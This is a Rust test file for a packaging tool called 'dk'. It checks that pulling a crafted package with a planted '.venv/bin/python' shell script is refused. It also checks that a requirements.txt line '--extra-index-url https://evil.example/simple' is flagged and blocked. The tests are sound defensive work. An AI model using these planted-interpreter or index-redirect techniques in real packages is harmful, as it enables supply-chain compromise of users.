//! Findings of the last security review, about what a pulled package can make dk trust:
//! 1. an artifact that ships `.venv/` (or `.dk-wheels/`, `.dk/`) in its content planted the
//!    virtualenv dk reuses when its marker names the requirements: pull now refuses it, and
//!    `dk build` never bundles those folders, even re-included by `.dkignore`;
//! 2. `requirements.txt` could carry pip options (`--extra-index-url`, `-f`, `-r`, URLs...) that
//!    redirect dk's pip: `dk lint` reports DK121, `dk run`/`dk build` refuse with exit 2.

use dk_test::registry::{Crafted, LyingRegistry, layer};

use crate::common::{bundled, context, run_ok};

/// The files of a fresh `dk init NAME --runtime generic-python` but its `requirements.txt`
/// (each case writes its own), as crafted archive entries.
fn package_entries(ctx: &dk_test::TestContext, name: &str) -> Vec<Crafted> {
    run_ok(ctx, &["init", name, "--runtime", "generic-python"], 0);
    let root = ctx.work().join(name);
    let mut entries = Vec::new();
    let mut stack = vec![root.clone()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else if !path.ends_with("requirements.txt") {
                let relative = path.strip_prefix(&root).unwrap().display().to_string();
                entries.push(Crafted::File(relative, std::fs::read(&path).unwrap()));
            }
        }
    }
    std::fs::remove_dir_all(root).unwrap();
    entries
}

#[test]
fn pull_refuses_a_planted_virtualenv_and_build_never_bundles_one() {
    let ctx = context();
    let registry = LyingRegistry::start();
    let mut entries = package_entries(&ctx, "planted");
    entries.push(Crafted::File(
        "requirements.txt".into(),
        b"six==1.16.0\n".to_vec(),
    ));
    entries.push(Crafted::File(
        ".venv/bin/python".into(),
        b"#!/bin/sh\necho owned > /tmp/owned\n".to_vec(),
    ));
    registry.artifact("team/default/planted", "v1.0.0", &[layer(&entries)]);
    let reference = format!("{}/team/default/planted:v1.0.0", registry.host());
    let result = run_ok(&ctx, &["pull", &reference, "--to", "out"], 1);
    assert!(
        result.stderr.contains(".venv/bin/python") && result.stderr.contains("made by dk"),
        "{}",
        result.transcript()
    );
    assert!(!ctx.work().join("out").exists(), "nothing unpacked");

    run_ok(&ctx, &["init", "mine", "--runtime", "generic-python"], 0);
    for file in [
        ".venv/bin/python",
        ".dk-wheels/a-1.0-py3-none-any.whl",
        ".dk/config.yaml",
    ] {
        ctx.write(format!("mine/{file}"), "x\n");
    }
    ctx.write("mine/.dkignore", "!.venv/\n!/.dk-wheels/\n!.dk/\n");
    let entries = bundled(&ctx, "mine").join(" ");
    for managed in [".venv", ".dk-wheels", ".dk/"] {
        assert!(!entries.contains(managed), "{managed} bundled: {entries}");
    }
}

#[test]
fn pip_options_in_requirements_are_a_lint_error_and_refused_at_run() {
    let ctx = context();
    let registry = LyingRegistry::start();
    let mut entries = package_entries(&ctx, "redirect");
    entries.push(Crafted::File(
        "requirements.txt".into(),
        b"# pinned\nsix==1.16.0\n  --extra-index-url https://evil.example/simple\n".to_vec(),
    ));
    registry.artifact("team/default/redirect", "v1.0.0", &[layer(&entries)]);
    let reference = format!("{}/team/default/redirect:v1.0.0", registry.host());
    run_ok(&ctx, &["pull", &reference, "--to", "out"], 0);

    let lint = run_ok(&ctx, &["lint", "out", "-o", "json"], 1).json();
    let finding = lint["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["code"] == "DK121")
        .unwrap_or_else(|| panic!("no DK121: {lint:#}"))
        .clone();
    assert_eq!(finding["location"]["line"], 3, "{finding:#}");
    assert_eq!(finding["location"]["column"], 3, "{finding:#}");
    assert!(
        finding["message"]
            .as_str()
            .unwrap()
            .contains("--extra-index-url")
    );

    for command in [
        &["run", "out"][..],
        &["test", "out"],
        &["build", "out", "--tag", "v1.0.1"],
    ] {
        let refused = run_ok(&ctx, command, 2);
        let text = refused.transcript();
        assert!(
            text.contains("out/requirements.txt:3:3: `--extra-index-url`")
                && text.contains("hint:")
                && text.contains("PIP_INDEX_URL"),
            "{command:?}: {text}"
        );
        assert!(!ctx.work().join("out/.venv").exists(), "pip ran: {text}");
    }
    let explained = run_ok(&ctx, &["lint", "--explain", "DK121"], 0);
    assert!(
        explained.stdout.contains("--extra-index-url"),
        "{}",
        explained.stdout
    );
}
